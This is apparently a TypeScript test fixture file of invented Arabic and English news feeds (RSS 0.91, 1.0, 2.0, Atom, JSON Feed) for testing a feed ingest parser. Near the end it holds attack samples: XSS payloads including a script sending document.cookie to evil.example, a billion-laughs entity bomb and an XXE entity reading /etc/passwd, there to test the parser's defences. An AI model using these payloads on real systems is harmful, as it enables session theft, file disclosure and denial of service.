// Feed documents for the ingest tests. Every outlet, person and sentence here is invented for these tests.

export const OUTLET = 'صحيفة الواحة المتخيلة';
export const TITLE_1 = 'افتتاح مكتبة عامة جديدة في مدينة السراب';
export const TITLE_2 = 'فريق الكرة المحلي يفوز في مباراة ودية';
export const BODY_1 = 'قال مسؤول البلدية إن المكتبة ستفتح أبوابها كل يوم من الصباح حتى المساء.';

export function rss2(items: string, channelExtra = '<link>https://wahat.example/</link>'): string {
  return `<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">
  <channel>
    <title>${OUTLET}</title>
    ${channelExtra}
    <description>أخبار محلية من مدينة متخيلة</description>
    <language>ar</language>
    ${items}
  </channel>
</rss>
`;
}

export const SIMPLE_RSS = rss2(`
    <item>
      <title>${TITLE_1}</title>
      <link>https://wahat.example/news/1</link>
      <guid isPermaLink="false">wahat-1</guid>
      <pubDate>Sun, 03 Mar 2024 10:30:00 +0300</pubDate>
      <description>${BODY_1}</description>
    </item>
    <item>
      <title>${TITLE_2}</title>
      <link>https://wahat.example/news/2</link>
      <guid>https://wahat.example/news/2</guid>
      <pubDate>Sun, 03 Mar 2024 12:00:00 GMT</pubDate>
    </item>`);

/** Same shape as SIMPLE_RSS but declaring another encoding in the XML declaration. */
export function rssDeclaring(encoding: string | null, title = TITLE_1): string {
  const decl = encoding ? `<?xml version="1.0" encoding="${encoding}"?>` : '<?xml version="1.0"?>';
  return `${decl}
<rss version="2.0"><channel><title>${OUTLET}</title><link>https://wahat.example/</link>
<item><title>${title}</title><link>https://wahat.example/news/7</link><description>${BODY_1}</description></item>
</channel></rss>
`;
}

export const RSS_091 = `<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91">
  <channel>
    <title>Old Oasis Bulletin</title>
    <link>https://old-oasis.example/</link>
    <description>An invented bulletin in the oldest RSS dialect</description>
    <language>en</language>
    <item>
      <title>Water wells repaired</title>
      <link>https://old-oasis.example/wells</link>
      <description>The invented council repaired two wells.</description>
    </item>
  </channel>
</rss>
`;

export const RSS_10 = `<?xml version="1.0" encoding="utf-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://rimal.example/">
    <title>نشرة الرمال</title>
    <link>https://rimal.example/</link>
    <description>نشرة متخيلة</description>
    <items><rdf:Seq><rdf:li resource="https://rimal.example/a/1"/></rdf:Seq></items>
  </channel>
  <item rdf:about="https://rimal.example/a/1">
    <title>موسم التمور يبدأ مبكراً هذا العام</title>
    <link>https://rimal.example/a/1</link>
    <description>توقع مزارعون متخيلون محصولاً وفيراً.</description>
    <dc:date>2024-09-14T08:15:00+03:00</dc:date>
    <dc:creator>سلمى الراوي</dc:creator>
  </item>
</rdf:RDF>
`;

export const ATOM = `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="ar">
  <title>مدونة النخيل</title>
  <link rel="alternate" type="text/html" href="https://nakheel.example/"/>
  <link rel="self" href="https://nakheel.example/atom.xml"/>
  <id>urn:uuid:0f6c1a52-0000-4000-8000-000000000001</id>
  <updated>2024-02-01T10:00:00Z</updated>
  <entry>
    <title type="html">&lt;b&gt;قراءة في كتاب متخيل&lt;/b&gt;</title>
    <id>urn:uuid:0f6c1a52-0000-4000-8000-000000000002</id>
    <link rel="alternate" type="text/html" href="/posts/book"/>
    <published>2024-01-31T21:00:00+02:00</published>
    <updated>2024-02-01T10:00:00Z</updated>
    <author><name>كريم الوادي</name></author>
    <summary>عرض قصير لكتاب لم يكتبه أحد.</summary>
    <content type="html">&lt;p&gt;فقرة أولى من العرض.&lt;/p&gt;</content>
    <category term="ثقافة"/>
  </entry>
  <entry>
    <title>تدوينة بلا تاريخ نشر</title>
    <id>urn:uuid:0f6c1a52-0000-4000-8000-000000000003</id>
    <link href="https://nakheel.example/posts/undated"/>
    <updated>2024-01-20T09:00:00Z</updated>
  </entry>
</feed>
`;

export const JSON_FEED = JSON.stringify({
  version: 'https://jsonfeed.org/version/1.1',
  title: 'موجز الواحة',
  home_page_url: 'https://mawjaz.example/',
  language: 'ar',
  items: [
    {
      id: 'mawjaz-1',
      url: '/brief/1',
      title: 'انقطاع مؤقت للكهرباء في الحي الشرقي',
      content_html: '<p>أعلنت شركة متخيلة عن صيانة مجدولة.</p>',
      date_published: '2024-05-10T06:00:00Z',
      image: '/img/power.jpg',
      tags: ['خدمات'],
      authors: [{ name: 'هالة النجار' }],
    },
  ],
});

export const DC_DATE_RSS = rss2(`
    <item>
      <title>${TITLE_1}</title>
      <link>https://wahat.example/news/dc</link>
      <dc:date>2024-06-01T07:45:00+03:00</dc:date>
      <dc:creator>عادل الصحراوي</dc:creator>
    </item>`);

export const CONTENT_ENCODED_RSS = rss2(`
    <item>
      <title>${TITLE_2}</title>
      <link>https://wahat.example/news/full</link>
      <description>ملخص قصير للخبر.</description>
      <content:encoded><![CDATA[<p>${BODY_1}</p><p>فقرة ثانية كاملة.</p>]]></content:encoded>
    </item>`);

export const MEDIA_RSS = rss2(`
    <item>
      <title>${TITLE_1}</title>
      <link>https://wahat.example/news/photo</link>
      <media:content url="/media/library.jpg" medium="image" width="800" height="450"/>
    </item>`);

export const RELATIVE_LINKS_RSS = rss2(`
    <item>
      <title>${TITLE_1}</title>
      <link>/news/relative</link>
    </item>
    <item>
      <title>${TITLE_2}</title>
      <link>sports/match?id=3</link>
    </item>`);

export const RELATIVE_NO_SITE_RSS = rss2(
  `
    <item>
      <title>${TITLE_1}</title>
      <link>article-9.html</link>
    </item>`,
  '',
);

export const DUPLICATE_GUID_RSS = rss2(`
    <item>
      <title>${TITLE_1}</title>
      <link>https://wahat.example/news/dup-a</link>
      <guid isPermaLink="false">same-guid</guid>
    </item>
    <item>
      <title>${TITLE_1} (نسخة مكررة)</title>
      <link>https://wahat.example/news/dup-b</link>
      <guid isPermaLink="false">same-guid</guid>
    </item>
    <item>
      <title>${TITLE_2}</title>
      <link>https://wahat.example/news/other</link>
      <guid isPermaLink="false">other-guid</guid>
    </item>`);

export const DATES_RSS = rss2(`
    <item><title>بلا تاريخ</title><link>https://wahat.example/d/none</link></item>
    <item><title>تاريخ في المستقبل البعيد</title><link>https://wahat.example/d/future</link><pubDate>Fri, 01 Jan 2100 00:00:00 GMT</pubDate></item>
    <item><title>منطقة زمنية غريبة</title><link>https://wahat.example/d/eest</link><pubDate>Tue, 02 Jul 2024 09:00:00 EEST</pubDate></item>
    <item><title>تاريخ بشهر عربي</title><link>https://wahat.example/d/arabic</link><pubDate>الأحد 3 مارس 2024 - 10:30</pubDate></item>
    <item><title>تاريخ لا يُقرأ</title><link>https://wahat.example/d/garbage</link><pubDate>قريباً جداً</pubDate></item>`);

export const INJECTION_RSS = rss2(`
    <item>
      <title>&lt;img src=x onerror=alert(1)&gt;${TITLE_1}</title>
      <link>https://wahat.example/news/inject</link>
      <description>&lt;p onmouseover="steal()"&gt;${BODY_1}&lt;script&gt;document.location='https://evil.example/'&lt;/script&gt;&lt;/p&gt;</description>
      <content:encoded><![CDATA[<p onclick="steal()">${BODY_1}</p><script>fetch('https://evil.example/?c='+document.cookie)</script><iframe src="javascript:alert(2)"></iframe>]]></content:encoded>
    </item>
    <item>
      <title>رابط جافاسكربت</title>
      <link>javascript:alert(document.domain)</link>
    </item>`);

export const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title><link>https://wahat.example/</link>
<item><title>&lol9;</title><link>https://wahat.example/lol</link></item></channel></rss>
`;

export const EXTERNAL_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<rss version="2.0"><channel><title>&secret;</title><link>https://wahat.example/</link>
<item><title>&secret;</title><link>https://wahat.example/xxe</link><description>&secret;</description></item></channel></rss>
`;

export const MALFORMED_XML = `<?xml version="1.0"?>
<rss version="2.0"><channel><title>${OUTLET}</title>
<item><title>${TITLE_1}</item></channel></rss>
`;

export const TRUNCATED_XML = SIMPLE_RSS.slice(0, Math.floor(SIMPLE_RSS.length * 0.6));

/** Cut after a complete item: every tag so far is closed, only the document's end is missing. */
export const TRUNCATED_AFTER_ITEM = SIMPLE_RSS.slice(0, SIMPLE_RSS.indexOf('</item>') + '</item>'.length);

export const HTML_PAGE = `<!doctype html>
<html lang="ar" dir="rtl"><head><meta charset="utf-8"><title>${OUTLET}</title></head>
<body><h1>${TITLE_1}</h1><p>${BODY_1}</p></body></html>
`;

export function htmlWithMeta(charsetMeta: string, title = TITLE_1): string {
  return `<!doctype html><html lang="ar"><head>${charsetMeta}<title>${title}</title></head><body><p>${BODY_1}</p></body></html>`;
}
